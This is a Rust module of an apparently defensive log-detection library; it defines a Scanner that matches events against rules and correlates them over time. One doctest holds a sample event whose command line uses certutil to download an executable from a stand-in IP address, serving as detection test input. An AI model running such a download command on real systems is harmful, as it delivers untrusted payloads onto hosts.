//! The [`Scanner`]: events in, one at a time; [`Detection`]s out.
//!
//! A scan has two halves. [`Scanner::prepare`] is stateless: it matches the
//! event against every rule (see [`prepare`]) and reads what correlations
//! need from it. [`Scanner::complete`] is the stream: it orders prepared
//! events by event time within the allowed lateness and runs the
//! correlations (see [`crate::correlate`]). [`Scanner::scan`] does both.
//! The halves may run on different scanners of the same rules, so that
//! matching spreads over threads while one scanner correlates in stream
//! order. All per-stream state lives here; [`Rules`] stays immutable.

mod accounting;
mod detection;
mod detection_json;
mod eval;
mod memo;
mod normals;
mod prepare;

use std::sync::Arc;
use std::time::Duration;

use serde::Serialize;

use crate::compile::Rules;
use crate::correlate::persist::{self, StateError};
use crate::correlate::partition::{self, EventGroups};
use crate::correlate::{Correlator, Env, Prepared, Zones};
use crate::error::EventError;
use crate::event::{Event, EventTime, FieldPlan, SourceId};
use crate::schema::Schema;

pub use accounting::{Accounting, UNREADABLE};
pub use detection::{Correlated, Detection, EventRef, Evidence, Window};
pub(crate) use prepare::Hit;

/// How a scanner reads events and keeps correlation state.
#[derive(Debug, Clone, PartialEq)]
pub struct ScanOptions {
    /// How JSON events are shaped ([`Schema::Auto`]: decided per event).
    pub schema: Schema,
    /// How far behind the latest event time an event may arrive and still
    /// be correlated as if the stream were sorted (60 s). Correlated
    /// detections come out once the lateness has passed.
    pub lateness: Duration,
    /// A field (a dotted key path in JSON) holding the event time, read
    /// before the schema's own time fields.
    pub time_field: Option<String>,
    /// What an event without a readable time gets.
    pub time_missing: TimeMissing,
    /// Return stateless detections in event-time order too, held back with
    /// the correlation inputs until the lateness has passed (a timeline).
    /// Off by default: stateless detections come out at once.
    pub ordered: bool,
    /// The most contributing events (and distinct values) a correlated
    /// detection lists (32).
    pub max_events: usize,
    /// The most correlation groups held (1,000,000); past it the groups
    /// touched longest ago are evicted, and counted.
    pub max_groups: usize,
    /// The most bytes of correlation state (256 MiB, estimated), likewise.
    pub max_state_bytes: usize,
    /// The most events waiting for the lateness to pass (1,000,000); past
    /// it the oldest are released early, and counted.
    pub max_pending: usize,
}

impl Default for ScanOptions {
    fn default() -> ScanOptions {
        ScanOptions {
            schema: Schema::Auto,
            lateness: Duration::from_secs(60),
            time_field: None,
            time_missing: TimeMissing::Skip,
            ordered: false,
            max_events: 32,
            max_groups: 1_000_000,
            max_state_bytes: 256 << 20,
            max_pending: 1_000_000,
        }
    }
}

/// Reads a duration as the command line and the bindings take one:
/// `500ms`, `90s`, `5m`, `2h`, `1d`, or `0`.
///
/// ```
/// use std::time::Duration;
/// assert_eq!(landwatch::parse_duration("5m"), Ok(Duration::from_secs(300)));
/// assert!(landwatch::parse_duration("5 minutes").is_err());
/// ```
pub fn parse_duration(s: &str) -> Result<Duration, String> {
    let t = s.trim();
    if t == "0" {
        return Ok(Duration::ZERO);
    }
    let digits = t.bytes().take_while(u8::is_ascii_digit).count();
    let (n, unit) = t.split_at(digits);
    let n: u64 = n.parse().map_err(|_| format!("'{s}' is not a duration such as 60s or 5m"))?;
    let ms = match unit {
        "ms" => 1,
        "s" => 1_000,
        "m" => 60_000,
        "h" => 3_600_000,
        "d" => 86_400_000,
        _ => return Err(format!("'{s}': unknown unit '{unit}' (ms, s, m, h or d)")),
    };
    n.checked_mul(ms).map(Duration::from_millis).ok_or_else(|| format!("'{s}' is too long"))
}

/// What an event without a readable time gets.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
pub enum TimeMissing {
    /// Nothing: correlations skip it (counted as `no_time`); its stateless
    /// detections are reported without a time.
    #[default]
    Skip,
    /// The time of the last event before it that had one.
    Previous,
}

/// Counters over a scanner's life.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq, Serialize)]
pub struct ScanStats {
    /// Events given to the scanner, read or not.
    pub events: u64,
    /// Events that could not be read.
    pub rejected: u64,
    pub detections: u64,
    /// Rule evaluations (candidates from atoms plus always-evaluated rules).
    pub evaluations: u64,
    /// Events with a detection or a correlation input but no readable time:
    /// correlations skipped them.
    pub no_time: u64,
    /// Events later than the allowed lateness: correlations skipped them;
    /// their stateless detections were kept.
    pub late: u64,
    /// Correlation inputs without a group value (absent, empty or `-`) or
    /// without the value the measure reads (not a number, in no zone).
    pub no_value: u64,
    /// Correlation groups dropped as their events left the window.
    pub expired: u64,
    /// Correlation groups evicted to stay within `max_groups` and
    /// `max_state_bytes`.
    pub evicted: u64,
    /// Events released early to stay within `max_pending`.
    pub forced: u64,
    /// Correlation groups held now.
    pub groups: u64,
    /// Estimated bytes of correlation state held now.
    pub state_bytes: u64,
    /// Events waiting for the lateness to pass now.
    pub pending: u64,
}

/// Scans a stream of events against shared [`Rules`]. One per stream or
/// thread; cheap to create.
///
/// ```
/// use std::sync::Arc;
/// use landwatch::{RulesBuilder, Scanner};
/// let rules = Arc::new(RulesBuilder::new().add_builtin().build().unwrap());
/// let mut scanner = Scanner::new(rules);
/// let line = br#"{"EventID":1,"Image":"C:\\Windows\\System32\\certutil.exe",
///                 "CommandLine":"certutil -urlcache -split -f http://203.0.113.9/a.exe a.exe"}"#;
/// let detections = scanner.scan_json(line).unwrap();
/// assert!(!detections.is_empty());
/// ```
#[derive(Debug)]
pub struct Scanner {
    rules: Arc<Rules>,
    plan: Arc<FieldPlan>,
    options: ScanOptions,
    zones: Option<Arc<Zones>>,
    stats: ScanStats,
    /// Rejections by reason and detections by rule and level, since the
    /// scanner was made or restored.
    tally: Accounting,
    state: prepare::State,
    correlator: Correlator,
}

impl Scanner {
    pub fn new(rules: Arc<Rules>) -> Scanner {
        Scanner::with_options(rules, ScanOptions::default())
    }

    /// A scanner with `options`.
    pub fn with_options(rules: Arc<Rules>, options: ScanOptions) -> Scanner {
        let plan = match &options.time_field {
            Some(f) => Arc::new(rules.plan.with_time_field(f)),
            None => Arc::clone(&rules.plan),
        };
        Scanner {
            state: prepare::State::new(&rules),
            correlator: Correlator::new(&rules),
            plan,
            rules,
            options,
            zones: None,
            stats: ScanStats::default(),
            tally: Accounting::default(),
        }
    }

    /// Reads JSON events as `schema` (default [`Schema::Auto`]).
    pub fn with_schema(mut self, schema: Schema) -> Scanner {
        self.options.schema = schema;
        self
    }

    /// Network zones and business hours, for the correlations that read
    /// them (`zone(FIELD)`, `outside business hours`). Without them, those
    /// correlations never fire.
    pub fn with_zones(mut self, zones: Arc<Zones>) -> Scanner {
        self.zones = Some(zones);
        self
    }

    pub fn rules(&self) -> &Arc<Rules> {
        &self.rules
    }

    pub fn options(&self) -> &ScanOptions {
        &self.options
    }

    pub fn stats(&self) -> ScanStats {
        let c = self.correlator.stats();
        ScanStats {
            no_time: c.no_time,
            late: c.late,
            no_value: self.stats.no_value + c.no_value,
            expired: c.expired,
            evicted: c.evicted,
            forced: c.forced,
            groups: c.groups,
            state_bytes: c.state_bytes,
            pending: c.pending,
            ..self.stats
        }
    }

    /// Every event accounted for: read, scanned and rejected (by reason),
    /// what correlations left out (`late`, `no_time`, `evicted`, `forced`),
    /// and the detections by rule and by level. `read` is
    /// [`ScanStats::events`]; `read == scanned + rejected` holds. After
    /// [`Scanner::restore_state`] the totals go on from the saved ones, the
    /// by-reason, by-rule and by-level counts from zero.
    pub fn accounting(&self) -> Accounting {
        let s = self.stats();
        let mut a = Accounting {
            read: s.events,
            scanned: s.events.saturating_sub(s.rejected),
            rejected: s.rejected,
            detections: s.detections,
            ..self.tally.clone()
        };
        a.correlation(&s);
        a
    }

    /// Scans one JSON object.
    pub fn scan_json(&mut self, bytes: &[u8]) -> Result<Vec<Detection>, EventError> {
        self.scan(&Event::json(bytes))
    }

    /// Scans one event and returns the detections it completes: its own
    /// stateless detections (in rule load order), then the correlations
    /// completed by the events it released from waiting (see
    /// [`ScanOptions::lateness`]). An event that cannot be read is counted
    /// as rejected and its error returned; the scanner stays usable.
    pub fn scan(&mut self, event: &Event<'_>) -> Result<Vec<Detection>, EventError> {
        let p = self.prepare(event)?;
        Ok(self.complete(p))
    }

    /// Counts an event that its reader could not even cut out of the input
    /// (a broken JSON array, an unreadable EVTX record): read and rejected,
    /// as [`Scanner::scan`] counts a malformed one, so that positions and
    /// figures still line up with the input.
    pub fn reject_unreadable(&mut self) {
        self.reject_because(UNREADABLE);
    }

    /// As [`Scanner::reject_unreadable`], counted under `reason` (a short,
    /// stable name such as [`EventError::reason`] gives).
    pub fn reject_because(&mut self, reason: &str) {
        self.stats.events += 1;
        self.stats.rejected += 1;
        self.tally.reject(reason);
    }

    /// The stateless half of [`Scanner::scan`]: matches the event and reads
    /// what correlations need, touching no correlation state. Give the
    /// result to [`Scanner::complete`] of this scanner or of another over
    /// the same rules, in stream order.
    pub fn prepare(&mut self, event: &Event<'_>) -> Result<Prepared, EventError> {
        let position = self.stats.events;
        self.stats.events += 1;
        let mut counts = prepare::Counts::default();
        if self.state.spare.is_none() {
            self.state.spare = self.correlator.spare();
        }
        let result = prepare::prepare(&self.rules, &self.plan, &self.options, &mut self.state, event, position, &mut counts);
        self.stats.evaluations += counts.evaluations;
        self.stats.no_value += counts.no_value;
        if let Err(e) = &result {
            self.stats.rejected += 1;
            self.tally.reject(e.reason());
        }
        result
    }

    /// The correlation groups an event feeds, and its time, without
    /// touching correlation state: for each correlation, the group key it
    /// would be filed under (folded as keys compare), and for a chained
    /// correlation the group its inner group's key projects to. What a
    /// stream split by group key needs: each group correlated apart, its
    /// events in time order, gives the whole stream's detections of that
    /// group when the whole stream drops nothing (no `late`, `forced` or
    /// `evicted` event; see docs/spark.md). An event without a readable
    /// time feeds none.
    pub fn groups_of(&mut self, event: &Event<'_>) -> Result<EventGroups, EventError> {
        let p = self.prepare(event)?;
        Ok(partition::groups(&self.rules, &p))
    }

    /// Where first-seen learning periods start: for a scanner given part of
    /// a stream (one group's events), the time of the whole stream's first
    /// correlated event, so that it learns as the whole stream's scanner
    /// did. Call it before the first event.
    pub fn start_stream_at(&mut self, time: EventTime) {
        self.correlator.started = Some(time.as_nanos());
    }

    /// The stateful half of [`Scanner::scan`]: takes prepared events in
    /// stream order and returns the detections now due.
    pub fn complete(&mut self, prepared: Prepared) -> Vec<Detection> {
        self.correlate(|c, env, out| c.complete(prepared, env, out))
    }

    /// Runs `f` on the correlating half, and counts what it reports.
    fn correlate(&mut self, f: impl FnOnce(&mut Correlator, &Env<'_>, &mut Vec<Detection>)) -> Vec<Detection> {
        let mut out = Vec::new();
        let env = Env {
            rules: &self.rules,
            options: &self.options,
            zones: self.zones.as_deref(),
        };
        f(&mut self.correlator, &env, &mut out);
        self.stats.detections += out.len() as u64;
        for d in &out {
            self.tally.detection(d);
        }
        out
    }

    /// Ends the stream: the detections of every event still waiting for the
    /// lateness to pass. The scanner stays usable (its groups are kept).
    pub fn flush(&mut self) -> Vec<Detection> {
        self.correlate(|c, env, out| c.flush(env, out))
    }

    /// A new input read side by side with the others (say, one log file of
    /// several, each in time order but read one after another). Events
    /// marked with it ([`Event::from_source`]) are ordered against the other
    /// sources' events: until it gives an event or is closed, correlations
    /// wait for it. Without sources, a scanner reads one stream.
    pub fn open_source(&mut self) -> SourceId {
        self.correlator.open_source()
    }

    /// Ends a source; returns what its end lets through.
    pub fn close_source(&mut self, source: SourceId) -> Vec<Detection> {
        self.correlate(|c, env, out| c.close_source(source, env, out))
    }

    /// The correlation state (groups, waiting events, sources) as bytes, to
    /// restore later into a scanner of the same correlations.
    pub fn save_state(&self) -> Vec<u8> {
        let s = &self.stats;
        let counters = persist::Counters {
            events: s.events,
            rejected: s.rejected,
            detections: s.detections,
            evaluations: s.evaluations,
            no_value: s.no_value,
        };
        persist::save(&self.correlator, &self.rules.correlations, counters)
    }

    /// Replaces the correlation state with one saved by
    /// [`Scanner::save_state`]. A blob of other correlations, of another
    /// format version, or damaged, is an error and changes nothing.
    pub fn restore_state(&mut self, bytes: &[u8]) -> Result<(), StateError> {
        let (correlator, c) = persist::restore(bytes, &self.rules.correlations)?;
        self.correlator = correlator;
        self.stats = ScanStats {
            events: c.events,
            rejected: c.rejected,
            detections: c.detections,
            evaluations: c.evaluations,
            no_value: c.no_value,
            ..ScanStats::default()
        };
        self.tally = Accounting::default();
        Ok(())
    }
}
